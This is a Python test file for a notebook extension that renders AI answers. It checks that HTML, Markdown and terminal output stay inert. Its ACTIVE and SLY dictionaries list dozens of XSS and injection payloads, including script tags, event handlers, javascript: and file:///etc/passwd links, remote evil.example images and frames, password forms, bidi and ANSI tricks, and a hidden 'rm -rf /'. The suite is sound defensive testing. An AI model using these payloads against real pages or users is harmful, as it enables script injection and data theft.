"""What is shown of an answer: harmless HTML, inert Markdown, plain words, marks under it."""

from __future__ import annotations

import re
from html.parser import HTMLParser
from types import SimpleNamespace
from typing import TYPE_CHECKING, Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from support.hidden import is_hidden

from qianfan_magic import Chunk, Reply, StreamError, Usage
from qianfan_magic.conversation.conversation import Conversation, Fit
from qianfan_magic.conversation.turn import Turn
from qianfan_magic.views.factory import is_watched, make_view
from qianfan_magic.views.notes import left_out_note, reply_notes
from qianfan_magic.views.output_area import CellOutput
from qianfan_magic.views.plain import FinalView, TerminalView
from qianfan_magic.views.play import Play
from qianfan_magic.views.rendering.answer import AnswerOutput
from qianfan_magic.views.rendering.invisible import escape_invisible
from qianfan_magic.views.rendering.markdown import inert_markdown, to_html
from qianfan_magic.views.reports.history import history_bundle

if TYPE_CHECKING:
    from collections.abc import Mapping

# --- the judge: what may stand in a page, written down without a look at the package

TAGS = {
    *("p", "br", "hr", "h1", "h2", "h3", "h4", "h5", "h6", "pre", "blockquote", "ul", "ol", "li"),
    *("div", "span", "sup", "img"),
    *("a", "em", "strong", "s", "del", "code", "table", "thead", "tbody", "tr", "th", "td"),
}
ATTRIBUTES = {("a", "href"), ("a", "title"), ("a", "rel"), ("ol", "start")}
ATTRIBUTES |= {(tag, "style") for tag in ("p", "pre", "th", "td", "li", "div", "span", "img")}
ATTRIBUTES |= {("div", "class"), ("span", "class"), ("img", "src"), ("img", "alt")}
# What changes letters and the space around them: nothing that loads, covers or hides.
STYLES = (
    "opacity|font-size|white-space|word-break|overflow-wrap|margin(?:-top|-bottom)?|text-align|list-style-type"
    "|contain|overflow-x|max-width|color|font-weight|font-style"
)
VALUES = {
    "href": re.compile(r"(https?://|mailto:)[^\s]*", re.IGNORECASE),
    "rel": re.compile(r".*\bnoopener\b.*\bnoreferrer\b.*"),
    "start": re.compile(r"\d+"),
    "style": re.compile(rf"(({STYLES}): ?([\w.%-]+|var\(--jp-[\w-]+\))(; ?)?)+"),
    "class": re.compile(
        r"(qianfan-answer mathjax_ignore tex2jax_ignore)|mathjax_process tex2jax_process"
    ),
    "src": re.compile(r"data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]+"),
    "alt": re.compile(r".*", re.DOTALL),
    "title": re.compile(r".*", re.DOTALL),
}


class Judge(HTMLParser):
    """Collects what is not allowed."""

    def __init__(self) -> None:
        super().__init__()
        self.faults: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.faults += [f"<{tag}>"] * (tag not in TAGS)
        for name, value in attrs:
            allowed = (tag, name) in ATTRIBUTES and VALUES[name].fullmatch(value or "")
            self.faults += [] if allowed else [f"<{tag} {name}={value!r}>"]

    def handle_other(self, data):
        self.faults.append(data)

    handle_comment = handle_decl = handle_pi = unknown_decl = handle_other


def faults(html: str) -> list[str]:
    judge = Judge()
    judge.feed(html)
    judge.close()
    return judge.faults


def naive(text: str) -> str:
    """Render as a tool does that trusts what it renders: raw HTML, any link."""
    parser = MarkdownIt("commonmark", {"html": True}).enable("table")
    parser.validateLink = lambda _url: True
    return re.sub(r' class="language-[^"]*"', "", parser.render(text))


# --- answers that would run, load or follow something if they were trusted

ACTIVE = {
    "script": "<script>alert(1)</script>",
    "script in capitals": "<ScRiPt SRC=https://evil.example/x.js></sCrIpT>",
    "script in a paragraph": "Look: <script>alert(1)</script>!",
    "script never closed": "<script>alert(1)",
    "event of an image": "<img src=x onerror=alert(1)>",
    "event of a detail": "<details open ontoggle=alert(1)>x</details>",
    "event of the body": "<body onload=alert(1)>",
    "focus": "<input autofocus onfocus=alert(1)>",
    "remote image": "![x](https://evil.example/pixel.png)",
    "remote image by reference": "![x][r]\n\n[r]: https://evil.example/pixel.png",
    "image in HTML": "<img src='https://evil.example/pixel.png'>",
    "image with a script": "![x](javascript:alert(1))",
    "image with a breaking title": '![x](https://e.example "a\\" onerror=\\"alert(1)")',
    "image with a breaking text": '!["><script>alert(1)</script>](https://e.example)',
    "javascript link": "[x](javascript:alert(1))",
    "javascript link in capitals": "[x](JaVaScRiPt:alert(1))",
    "javascript link as entities": "[x](&#106;avascript&colon;alert(1))",
    "javascript link as hex entities": "[x](&#x6A;&#x61;vascript:alert(1))",
    "javascript link with a tab": "[x](<java\tscript:alert(1)>)",
    "javascript link by entity tab": "[x](java&Tab;script:alert(1))",
    "javascript link in brackets": "[x](<javascript:alert(1)>)",
    "javascript link by reference": "[x][r]\n\n[r]: javascript:alert(1)",
    "javascript reference on two lines": "[x]\n\n[x]:\njavascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "vbscript link": "[x](vbscript:msgbox)",
    "data link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "file link": "[x](file:///etc/passwd)",
    "blob link": "[x](blob:https://evil.example/1)",
    "link into this server": "[x](/lab?reset)",
    "link to another host without a scheme": "[x](//evil.example/)",
    "link beside this notebook": "[x](evil.ipynb)",
    "SVG": "<svg><script>alert(1)</script></svg>",
    "SVG link": "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "MathML": "<math><mtext><mglyph><style><img src=x onerror=alert(1)></style></math>",
    "frame": "<iframe src='https://evil.example'></iframe>",
    "frame with a document": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object": "<object data='https://evil.example'></object><embed src=x>",
    "meta refresh": '<meta http-equiv="refresh" content="0; url=https://evil.example">',
    "style": "<style>body { background: url(https://evil.example) }</style>",
    "style of an element": '<p style="background: url(https://evil.example)">x</p>',
    "style sheet": "<link rel=stylesheet href=https://evil.example/x.css>",
    "form": "<form action=https://evil.example><input name=password></form>",
    "base": "<base href='https://evil.example/'>",
    "clobbered names": "<a id=jupyterapp name=jupyterapp>x</a>",
    "button of JupyterLab": '<button data-commandlinker-command="terminal:create-new">x</button>',
    "comment": "<!-- <script>alert(1)</script> -->",
    "instruction": "<?php echo 1 ?>",
    "declaration": "<!DOCTYPE html [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>",
    "CDATA": "<![CDATA[<script>alert(1)</script>]]>",
    "mutation": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "tag over two lines": "<img\nsrc=x\nonerror=alert(1)>",
    "tag in a table": "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "tag in a list": "- a\n- <script>alert(1)</script>",
    "tag in a quote": "> <script>alert(1)</script>",
    "tag behind a fence": "```\ncode\n```\n<script>alert(1)</script>",
    "fence that is never closed": "<script>alert(1)</script>\n```",
}
#: These do nothing in a page that is rendered rightly, and try to make a wrong one.
SLY = {
    "event behind a slash": "<svg/onload=alert(1)>",
    "language that breaks out": '```"><script>alert(1)</script>\ncode\n```',
    "language with an event": '``` x" onmouseover="alert(1)\ncode\n```',
    "title that breaks out": '[x](https://e.example "a\\" onmouseover=\\"alert(1)")',
    "title in single quotes": "[x](https://e.example 'a\" onmouseover=\"alert(1)')",
    "address that breaks out": '[x](https://e.example/"onmouseover="alert(1))',
    "code that breaks out": "`</code><script>alert(1)</script>`",
    "block that breaks out": "~~~\n</code></pre><script>alert(1)</script>\n~~~",
    "fences of all lengths": "`\n``\n```\n````\n`````\n</pre><b>x",
    "escaped twice": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "bidirectional override": "access\u202etxt.exe \u2066x\u2069 \u202a\u202b\u202c\u202d",
    "bidirectional entity": "a &#x202e;txt.exe&#8294; &lrm; &#x200b;",
    "ANSI escapes": "\x1b[2J\x1b[31mred \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x9b1m",
    "NUL": "<scr\x00ipt>alert(1)</scr\x00ipt> \x00",
    "carriage return": "safe\rdangerous",
    "backspaces": "rm -rf /\x08\x08\x08\x08ls",
    "lone surrogates": "half \ud83d, other half \udc00",
    "form feed in a tag": "<img\x0csrc=x\x0conerror=alert(1)>",
    "wide brackets": "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "many brackets": "[" * 200 + "](javascript:" * 5,
}
HOSTILE = ACTIVE | SLY
hostile = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
#: With its links and images it changes nothing on a page: it is only read.
active = pytest.mark.parametrize("text", ACTIVE.values(), ids=ACTIVE)


WHOLE = Fit([])


def html_of(text: str, *, markdown: bool = True, notes: tuple[str, ...] = ()) -> str:
    return AnswerOutput(text, "markdown" if markdown else "text", notes).bundle()["text/html"]


def history_of(text: str) -> str:
    conversation = Conversation(text, system=text, turns=(Turn(text, text),))
    return history_bundle(conversation, WHOLE)["text/html"]


@active
def test_answer_would_do_something_if_it_were_trusted(text):
    assert faults(naive(text)) != []


@hostile
def test_hostile_answer_is_harmless_as_markdown(text):
    assert faults(html_of(text)) == []


@hostile
def test_hostile_answer_is_harmless_as_text(text):
    assert faults(html_of(text, markdown=False)) == []


@hostile
def test_hostile_note_is_harmless(text):
    assert faults(html_of("x", notes=(text,))) == []


@hostile
def test_hostile_conversation_is_harmless(text):
    assert faults(history_of(text)) == []


@hostile
def test_hostile_markdown_is_inert_where_it_is_trusted(text):
    assert faults(naive(AnswerOutput(text, "markdown").bundle()["text/markdown"])) == []


@active
def test_what_is_active_is_not_left_as_it_is(text):
    assert inert_markdown(text) != text


@hostile
def test_no_hidden_character_is_shown(text):
    shown = "".join(AnswerOutput(text, "markdown", notes=(text,)).bundle().values())
    assert [c for c in shown if is_hidden(c)] == []


@hostile
def test_no_hidden_character_is_in_the_history(text):
    shown = "".join(history_bundle(Conversation(text, text, (Turn(text, text),)), WHOLE).values())
    assert [c for c in shown if is_hidden(c)] == []


#: Texts of pieces that mean something to Markdown or to HTML.
PIECES = st.sampled_from(
    [*"<>\"'`[]()!&:;/=\n\t x", "script", "javascript:", "\ud800", "\x1b", "](", "](<"]
)
MESSY = st.lists(st.one_of(PIECES, st.text(max_size=3)), max_size=25).map("".join)


@given(MESSY)
def test_any_answer_is_harmless(text):
    assert faults(html_of(text + "x")) == []


@given(MESSY)
def test_any_markdown_is_inert(text):
    assert faults(naive(AnswerOutput(text + "x", "markdown").bundle()["text/markdown"])) == []


@given(MESSY)
def test_any_answer_can_be_saved(text):
    shown = "".join(AnswerOutput(text, "markdown", notes=(text,)).bundle().values())
    assert shown.encode("utf-8").decode("utf-8") == shown


# --- what is not hostile is shown as it was meant


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("plain", "<p>plain</p>"),
        ("**bold** and *slanted*", "<p><strong>bold</strong> and <em>slanted</em></p>"),
        ("~~gone~~", "<p><s>gone</s></p>"),
        ("# Head", "<h1>Head</h1>"),
        ("> said", "<blockquote>\n<p>said</p>\n</blockquote>"),
        ("- a\n- b", "<ul>\n<li>a</li>\n<li>b</li>\n</ul>"),
        ("1. a\n2. b", "<ol>\n<li>a</li>\n<li>b</li>\n</ol>"),
        ("- a\n  - b", "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>"),
        ("`a < b`", "<p><code>a &lt; b</code></p>"),
        ("```\nif a < b:\n    c()\n```", "if a &lt; b:\n    c()\n"),
        ("a\n\n---\n\nb", "<hr>"),
        ("- **秦**:连接", "<li><strong>秦</strong>:连接</li>"),
        ("长城总长约 **21,196 公里**。", "<strong>21,196 公里</strong>。"),
        ("你好 👋🏽 café", "你好 👋🏽 café"),
        ("a < b && c > d", "a &lt; b &amp;&amp; c &gt; d"),
        ("vector<int> v;", "vector&lt;int&gt; v;"),
        ("snake_case_name", "snake_case_name"),
        ("$a_1 * b * c_2$", "$a_1 * b * c_2$"),
    ],
)
def test_markdown_is_rendered(text, html):
    assert html in to_html(text)


def test_list_that_begins_at_three_does_so():
    assert '<ol start="3">' in to_html("3. c\n4. d")


def test_table_is_a_table():
    cells = re.findall(r"<t[hd][^>]*>(.*?)</t[hd]>", to_html("| a | b |\n|---|---|\n| 宫 | 2 |"))
    assert cells == ["a", "b", "宫", "2"]


@pytest.mark.parametrize(
    "address", ["https://e.example/a?b=1#c", "http://e.example", "mailto:li@e.example"]
)
def test_link_goes_where_it_says(address):
    assert f'href="{address}"' in to_html(f"[x]({address})")


def test_link_tells_its_goal_nothing():
    assert re.search(r'rel="[^"]*noreferrer', to_html("[x](https://e.example)"))


def test_image_is_said_in_words():
    shown = to_html("![a wall](https://e.example/wall.png)")
    assert (">[image: a wall]</a>" in shown, "https://e.example/wall.png" in shown) == (True, True)


def test_hostile_words_are_still_read():
    assert "&lt;script&gt;alert(1)" in to_html("<script>alert(1)</script>")


@pytest.mark.parametrize(
    "text",
    [
        "plain **bold**",
        "| a |\n|---|\n| b |",
        "```python\nprint(1)\n```",
        "[x](https://e.example)",
        "a < b, a <3, 1 > 0",
        "长城 **21,196 公里**",
    ],
)
def test_harmless_markdown_stays_as_it_is(text):
    assert inert_markdown(text) == text


# --- visible


@pytest.mark.parametrize(
    ("text", "seen"),
    [
        ("a\x1b[31mb", r"a\x1b[31mb"),
        ("a\x00b", r"a\x00b"),
        ("a\u202eb", r"a\u202eb"),
        ("a\ud800b", r"a\ud800b"),
        ("a\rb", r"a\rb"),
        ("a\x7fb\x9b", r"a\x7fb\x9b"),
        ("a\r\nb\tc\n", "a\nb\tc\n"),
        ("长城 👩\u200d🔬", "长城 👩\u200d🔬"),
    ],
)
def test_control_characters_are_written_out(text, seen):
    assert escape_invisible(text) == seen


# --- Shown


def test_text_plain_keeps_the_words():
    assert AnswerOutput("**a** <b>\n长城", "markdown").bundle()["text/plain"] == "**a** <b>\n长城"


def test_text_plain_keeps_indentation():
    shown = AnswerOutput("\n    return a\n").bundle()
    assert shown["text/plain"] == "    return a"


def test_text_is_shown_letter_by_letter():
    assert ">**a**  b</pre>" in html_of("**a**  b", markdown=False)


def test_text_has_no_markdown_beside_it():
    assert "text/markdown" not in AnswerOutput("a").bundle()


@pytest.mark.parametrize("kind", ["text/html", "text/plain", "text/markdown"])
def test_notes_stand_under_the_answer(kind):
    shown = AnswerOutput("answer", "markdown", notes=("first", "second")).bundle()[kind]
    assert re.search(r"answer.*first.*second", shown, re.DOTALL)


def test_notes_alone_are_shown():
    assert "stopped" in AnswerOutput("", "markdown", notes=("stopped",)).bundle()["text/html"]


def test_nothing_is_shown_as_nothing():
    assert AnswerOutput("", "markdown").bundle() == {"text/plain": ""}


# --- history


def test_history_says_who_said_what():
    shown = history_bundle(Conversation("tutor", turns=(Turn("hi", "hello"),)), WHOLE)["text/plain"]
    assert shown == "Conversation tutor: 1 turn\n\n1. user: hi\n\n1. assistant: hello"


@pytest.mark.parametrize(
    ("turn", "mark"),
    [
        (Turn("q", "a", stopped=True), "1. assistant (stopped)"),
        (Turn("q", "a", truncated=True), "1. assistant (truncated)"),
        (Turn("q", "a", stopped=True, truncated=True), "1. assistant (stopped, truncated)"),
    ],
)
@pytest.mark.parametrize("kind", ["text/plain", "text/html"])
def test_history_marks_an_answer_that_is_not_whole(turn, mark, kind):
    assert mark in history_bundle(Conversation("x", turns=(turn,)), WHOLE)[kind]


def test_history_shows_the_system():
    assert "System: Be brief." in history_bundle(Conversation("x", "Be brief."), WHOLE)["text/html"]


def test_history_renders_answers_and_not_questions():
    shown = history_bundle(Conversation("x", turns=(Turn("**q**", "**a**"),)), WHOLE)["text/html"]
    assert ("**q**" in shown, "<strong>a</strong>" in shown) == (True, True)


@pytest.mark.parametrize(("count", "said"), [(0, "0 turns"), (1, "1 turn"), (2, "2 turns")])
def test_turns_are_counted(count, said):
    assert Conversation("x", turns=(Turn("q", "a"),) * count).counted == said


# --- notes


@pytest.mark.parametrize(
    ("reply", "words"),
    [
        (Reply(text="a", is_truncated=True), "is_truncated"),
        (Reply(text="a", is_safe=False), "is_safe 0"),
        (Reply(text="a", need_clear_history=True, ban_round=-1), "this question unsafe"),
        (Reply(text="a", need_clear_history=True, ban_round=2), "turn 2 of those sent unsafe"),
        (Reply(text="a", need_clear_history=True), "found the conversation unsafe"),
        (Reply(text=" \n"), "The answer is empty."),
    ],
)
def test_service_is_passed_on(reply, words):
    assert any(words in note for note in reply_notes(reply))


@pytest.mark.parametrize("is_safe", [True, None])
def test_good_answer_needs_no_note(is_safe):
    assert reply_notes(Reply(text="a", is_safe=is_safe)) == []


def test_no_missing_number_is_shown():
    assert "None" not in " ".join(reply_notes(Reply(text="a", need_clear_history=True)))


def test_empty_answer_that_was_refused_is_not_called_empty():
    refused = Reply(text="", need_clear_history=True, ban_round=-1)
    assert not any("is empty." in note for note in reply_notes(refused))


@pytest.mark.parametrize(
    ("left_out", "said"),
    [
        (1, ["The oldest turn was not sent: Dolly-12B takes at most 4,800 characters."]),
        (3, ["The oldest 3 turns were not sent: Dolly-12B takes at most 4,800 characters."]),
        (0, []),
    ],
)
def test_turns_that_were_left_out_are_told(left_out, said):
    reason = "Dolly-12B takes at most 4,800 characters"
    assert left_out_note(Fit([], left_out, reason)) == said


# --- Play


class Recorder:
    """A view that remembers."""

    def __init__(self) -> None:
        self.written: list[str] = []
        self.ended: list[AnswerOutput] = []

    def write(self, chunk: Chunk, _: int = 0) -> None:
        self.written.append(chunk.text)

    def begin(self) -> None:
        self.begun = True

    def end(self, shown: AnswerOutput, metadata: Mapping[str, Any]) -> None:
        self.ended.append(shown)
        self.metadata = metadata


def chunk_of(text: str) -> Chunk:
    return Chunk(text, is_end=False, usage=Usage(), raw={})


class Stream:
    """Chunks from a generator that tells whether it was closed, and may end in an error."""

    def __init__(self, *texts: str, error: BaseException | None = None) -> None:
        self.closed = False
        self._texts, self._error = texts, error

    def chunks(self):
        try:
            for text in self._texts:
                yield chunk_of(text)
            if self._error:
                raise self._error
        finally:
            self.closed = True


def test_each_piece_is_shown_as_it_arrives():
    view = Recorder()
    Play(view, form="markdown", asked="asked").run(Stream("a", "b").chunks())
    assert view.written == ["a", "b"]


def test_end_is_shown_only_when_it_is_said():
    view = Recorder()
    Play(view, form="markdown", asked="asked").run(Stream("a").chunks())
    assert view.ended == []


def test_end_shows_the_whole_answer_with_its_notes():
    view = Recorder()
    play = Play(view, form="text", asked="asked")
    play.run(Stream("a", "b").chunks())
    play.end("done", ["note"])
    assert view.ended == [AnswerOutput("ab", notes=("note",), asked="asked", state="done")]


def test_metadata_goes_with_the_end():
    view = Recorder()
    Play(view, form="text", asked="asked").end("done", metadata={"a": 1})
    assert view.metadata == {"a": 1}


def ended_as(state: str, stream: Stream, error: type[BaseException]) -> AnswerOutput:
    """End an answer that was stopped or broke off, as its caller does."""
    view = Recorder()
    play = Play(view, form="markdown", asked="asked")
    with pytest.raises(error):
        play.run(stream.chunks())
    play.end(state)
    return view.ended[0]


def test_stopped_answer_stays_and_is_marked():
    shown = ended_as("stopped", Stream("a", "b", error=KeyboardInterrupt()), KeyboardInterrupt)
    assert shown == AnswerOutput("ab", "markdown", asked="asked", state="stopped")


def test_stopped_before_the_first_word_is_marked_too():
    shown = ended_as("stopped", Stream(error=KeyboardInterrupt()), KeyboardInterrupt)
    assert shown == AnswerOutput("", "markdown", asked="asked", state="stopped")


def test_broken_answer_stays_and_is_marked():
    shown = ended_as("broken off", Stream("a", error=StreamError("lost")), StreamError)
    assert shown == AnswerOutput("a", "markdown", asked="asked", state="broken off")


def test_failure_before_the_first_word_shows_nothing():
    shown = ended_as("broken off", Stream(error=StreamError("lost")), StreamError)
    assert shown == AnswerOutput("")


@pytest.mark.parametrize("error", [KeyboardInterrupt(), StreamError("lost")])
def test_chunks_that_arrived_are_kept(error):
    play = Play(Recorder(), form="markdown", asked="asked")
    with pytest.raises(type(error)):
        play.run(Stream("a", "b", error=error).chunks())
    assert [chunk.text for chunk in play.chunks] == ["a", "b"]


class Failing(Recorder):
    """A view in which the user presses Stop."""

    def write(self, chunk: Chunk, _: int = 0) -> None:
        super().write(chunk)
        raise KeyboardInterrupt


def test_stream_is_closed_when_the_user_stops_it():
    stream = Stream("a", "b")
    chunks = stream.chunks()  # held, so that it is not the garbage collector that closes it
    with pytest.raises(KeyboardInterrupt):
        Play(Failing(), form="markdown", asked="asked").run(chunks)
    assert stream.closed


def test_stop_while_a_piece_is_shown_keeps_that_piece():
    play = Play(Failing(), form="markdown", asked="asked")
    with pytest.raises(KeyboardInterrupt):
        play.run(Stream("a", "b").chunks())
    assert play.end("stopped").text == "a"


# --- the view for the place


@pytest.mark.parametrize(
    ("live", "environment", "watched"),
    [
        ("on", {}, True),
        ("on", {"PYTEST_VERSION": "9"}, True),
        ("off", {"JPY_SESSION_NAME": "a.ipynb"}, False),
        ("auto", {}, False),
        ("auto", {"JPY_SESSION_NAME": "a.ipynb"}, True),
        ("auto", {"JPY_SESSION_NAME": "a.ipynb", "PYTEST_VERSION": "9"}, False),
    ],
)
def test_notebook_is_watched(monkeypatch, live, environment, watched):
    for name in ("JPY_SESSION_NAME", "PYTEST_VERSION"):
        monkeypatch.delenv(name, raising=False)
    for name, value in environment.items():
        monkeypatch.setenv(name, value)
    assert is_watched(SimpleNamespace(user_ns={}), live) is watched


def test_notebook_in_vs_code_is_watched(monkeypatch):
    monkeypatch.delenv("PYTEST_VERSION")
    monkeypatch.delenv("JPY_SESSION_NAME", raising=False)
    assert is_watched(SimpleNamespace(user_ns={"__vsc_ipynb_file__": "a.ipynb"}), "auto")


def test_terminal_gets_the_terminal_view():
    shell = SimpleNamespace(user_ns={})
    assert isinstance(
        make_view(shell, "on", "asked", form="markdown", place=CellOutput()), TerminalView
    )


def test_notebook_that_nobody_watches_gets_the_final_view():
    shell = SimpleNamespace(user_ns={}, kernel=object())
    assert isinstance(
        make_view(shell, "off", "asked", form="markdown", place=CellOutput()), FinalView
    )


# --- the terminal


def in_terminal(capsys, *pieces: str, notes: tuple[str, ...] = ()) -> str:
    view = TerminalView()
    for piece in pieces:
        view.write(chunk_of(piece))
    view.end(AnswerOutput("".join(pieces), "markdown", notes=notes))
    return capsys.readouterr().out


def test_terminal_shows_each_piece_at_once(capsys):
    TerminalView().write(chunk_of("a"))
    assert capsys.readouterr().out == "a"


def test_terminal_shows_the_answer_once(capsys):
    assert in_terminal(capsys, "hel", "lo") == "hello\n"


def test_terminal_begins_without_empty_lines(capsys):
    assert in_terminal(capsys, "\n", "\n  a", "\n") == "  a\n\n"


def test_terminal_shows_notes_under_the_answer(capsys):
    assert in_terminal(capsys, "a", notes=("stopped",)) == "a\n[stopped]\n"


@hostile
def test_terminal_is_not_moved_by_an_answer(capsys, text):
    shown = in_terminal(capsys, text, notes=(text,))
    assert [c for c in shown if is_hidden(c)] == []


def test_terminal_shows_a_line_end_that_was_cut_in_two(capsys):
    assert in_terminal(capsys, "a\r", "\nb") == "a\nb\n"
